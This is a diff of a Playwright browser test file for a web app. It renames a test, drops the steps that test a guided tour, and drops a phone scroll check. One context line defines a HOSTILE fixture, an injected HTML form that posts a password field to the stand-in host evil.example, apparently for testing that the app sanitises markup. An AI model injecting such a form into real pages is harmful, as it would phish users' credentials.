@@ -320,7 +320,7 @@ def test_a_set_survives_a_reload_and_is_downloaded(
         other.get_by_text("No set is being made.").wait_for()
 
 
-def test_counts_sheet_and_tour(browser: Any, address: str) -> None:
+def test_counts_and_sheet(browser: Any, address: str) -> None:
     with opened(browser, address) as tab:
         tab.get_by_role("tab", name="What changed").click()
         tab.get_by_role("button", name="Count tokens").click()
@@ -346,15 +346,6 @@ def test_counts_sheet_and_tour(browser: Any, address: str) -> None:
         tab.go_back()  # the sheet is where it was
         tab.wait_for_url("**tab=ablate**")
         tab.get_by_role("link", name="Save PNG").last.wait_for()
-        tab.get_by_role("tab", name="Learn").click()
-        tab.get_by_role("button", name="Start the tour").click()
-        tab.get_by_text("A scale at a time").wait_for()
-        tab.wait_for_selector(f'{FINISHED} [data-part="status"]:has-text("Amplification is off")')
-        tab.get_by_role("button", name="Next", exact=True).click()
-        tab.get_by_role("heading", name="Where it looks").nth(1).wait_for()
-        assert tab.get_by_role("button", name="Back", exact=True).is_enabled()
-        tab.get_by_role("button", name="End the tour").click()
-        tab.get_by_role("button", name="End the tour").wait_for(state="hidden")
 
 
 HOSTILE = "<form action=https://evil.example><input name=p placeholder=password><img src=/x><button>Go</button></form>"
@@ -533,9 +524,6 @@ def test_a_phone_shows_the_pictures_first_and_all_rooms(browser: Any, address: s
         assert tab.locator(".viewer .stage").bounding_box()["y"] < 400
         for room in ROOMS:
             assert tab.get_by_role("tab", name=room).is_visible(), room
-        tab.locator("#preset").scroll_into_view_if_needed()
-        tab.get_by_role("button", name="To the pictures").click()
-        assert 0 <= tab.locator(".viewer").bounding_box()["y"] < 200
         assert tab.locator(".strip .labels span").nth(1).is_visible()
 
 
